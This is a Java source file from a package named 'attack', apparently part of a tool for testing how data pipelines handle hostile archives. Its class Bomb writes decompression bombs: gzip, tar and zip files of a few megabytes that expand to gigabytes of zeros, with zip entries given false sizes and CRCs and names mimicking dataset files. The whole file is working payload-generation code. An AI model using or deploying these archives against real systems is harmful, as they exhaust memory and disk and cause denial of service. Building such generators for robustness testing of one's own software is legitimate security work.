package org.dwastudio.attack;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.zip.Zip64Mode;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;

/** Writer of small archives that unpack to gigabytes of zeros. */
final class Bomb {
    private static final int PIECE = 1 << 20;
    private static final int PIECES = 2 << 10;
    private static final long BYTES = (long) PIECE * PIECES;
    private static final int TAR_HEADER = 512;

    private Bomb() {}

    /** Returns bombs in place of a file with gzip. */
    static List<byte[]> gzip(byte[] content) throws IOException {
        byte[] zeros = repeated(PackedSeeds.gzip(new byte[PIECE]), new byte[0]);
        List<byte[]> bombs = new ArrayList<>(List.of(zeros, joined(content, zeros)));
        for (String name : new String[] {"pets/train/cat/a.png", "zeros", "cifar-10-batches-bin/data_batch_1.bin"}) {
            TarArchiveEntry entry = new TarArchiveEntry(name);
            entry.setSize(BYTES);
            byte[] header = new byte[TAR_HEADER];
            entry.writeEntryHeader(header);
            bombs.add(joined(PackedSeeds.gzip(header), zeros));
        }
        return bombs;
    }

    /** Returns bombs in place of a zip archive: each entry in turn is replaced, with its true size and a small one. */
    static List<byte[]> zip(byte[] content) throws IOException {
        Map<String, byte[]> entries = ArchiveSeeds.entries(content);
        byte[] packed = deflatedZeros();
        long sum = sumOfZeros();
        List<byte[]> bombs = new ArrayList<>();
        for (String name : List.copyOf(entries.keySet()).subList(0, Math.min(3, entries.size()))) {
            bombs.add(zip(entries, name, packed, sum, BYTES));
            bombs.add(zip(entries, name, packed, sum, entries.get(name).length));
        }
        return bombs;
    }

    private static byte[] zip(Map<String, byte[]> entries, String bomb, byte[] packed, long sum, long size)
            throws IOException {
        SeekableInMemoryByteChannel bytes = new SeekableInMemoryByteChannel();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
            zip.setUseZip64(Zip64Mode.Never);
            for (Map.Entry<String, byte[]> file : entries.entrySet()) {
                ZipArchiveEntry entry = new ZipArchiveEntry(file.getKey());
                if (file.getKey().equals(bomb)) {
                    entry.setMethod(ZipEntry.DEFLATED);
                    entry.setSize(size);
                    entry.setCompressedSize(packed.length);
                    entry.setCrc(sum);
                    zip.addRawArchiveEntry(entry, new ByteArrayInputStream(packed));
                } else {
                    zip.putArchiveEntry(entry);
                    zip.write(file.getValue());
                    zip.closeArchiveEntry();
                }
            }
        }
        return Arrays.copyOf(bytes.array(), (int) bytes.size());
    }

    /** Returns a deflate stream: a piece that ends at a byte, many times, and an empty last block. */
    private static byte[] deflatedZeros() {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            deflater.setInput(new byte[PIECE]);
            byte[] buffer = new byte[PIECE];
            int length = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH);
            return repeated(Arrays.copyOf(buffer, length), new byte[] {3, 0});
        } finally {
            deflater.end();
        }
    }

    private static long sumOfZeros() {
        CRC32 sum = new CRC32();
        byte[] zeros = new byte[PIECE];
        for (int piece = 0; piece < PIECES; piece++) {
            sum.update(zeros);
        }
        return sum.getValue();
    }

    private static byte[] repeated(byte[] piece, byte[] end) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int i = 0; i < PIECES; i++) {
            bytes.writeBytes(piece);
        }
        bytes.writeBytes(end);
        return bytes.toByteArray();
    }

    private static byte[] joined(byte[] start, byte[] end) {
        byte[] all = Arrays.copyOf(start, start.length + end.length);
        System.arraycopy(end, 0, all, start.length, end.length);
        return all;
    }
}
